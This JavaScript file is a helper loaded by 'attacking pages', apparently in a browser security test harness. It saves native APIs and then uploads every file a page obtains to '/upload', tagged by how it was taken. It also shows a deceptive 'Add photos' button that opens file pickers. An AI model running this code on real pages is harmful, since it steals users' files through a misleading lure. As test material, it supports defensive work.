// Loaded first by every attacking page: sends each file that the page lays hands on to the server, under the way it got it.
(() => {
  const { fetch, FormData, Blob, document } = window;
  const { apply } = Reflect;
  const { append } = FormData.prototype;
  const { get: getFiles } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'files');
  const taken = new WeakMap();
  window.onTheirWay = 0;
  /** What the page found out besides files, as text. */
  window.learnt = [];
  window.learn = (...texts) => window.learnt.push(...texts.map(String));
  window.steal = (via, value) => {
    if (!(value instanceof Blob) && Object.prototype.toString.call(value) !== '[object File]') return;
    const ways = taken.get(value) ?? new Set();
    taken.set(value, ways);
    if (ways.has(via)) return;
    ways.add(via);
    const data = new FormData();
    apply(append, data, [via, value, value.name ?? 'blob']);
    window.onTheirWay += 1;
    apply(fetch, window, ['/upload', { method: 'POST', body: data }])
      .catch(() => undefined)
      .then(() => (window.onTheirWay -= 1));
  };
  window.stealFrom = (via, input) => {
    for (const file of apply(getFiles, input, []) ?? []) window.steal(via, file);
  };
  window.makeInput = () => {
    const input = document.createElement('input');
    input.type = 'file';
    input.multiple = true;
    return input;
  };
  /** Listens on the input and wherever else it is told to, in both phases. */
  window.listen = (via, input, ...targets) => {
    for (const target of [input, ...targets])
      for (const type of ['input', 'change'])
        for (const phase of [true, false]) target.addEventListener(type, () => window.stealFrom(via, input), phase);
    return input;
  };
  /** Runs it on a click of the user on the button, which opens pickers. */
  window.onGo = (act) => {
    document.addEventListener('DOMContentLoaded', () => {
      const button = document.createElement('button');
      button.dataset.testid = 'go';
      button.textContent = 'Add photos';
      button.addEventListener('click', act);
      document.body.append(button);
    });
  };
})();
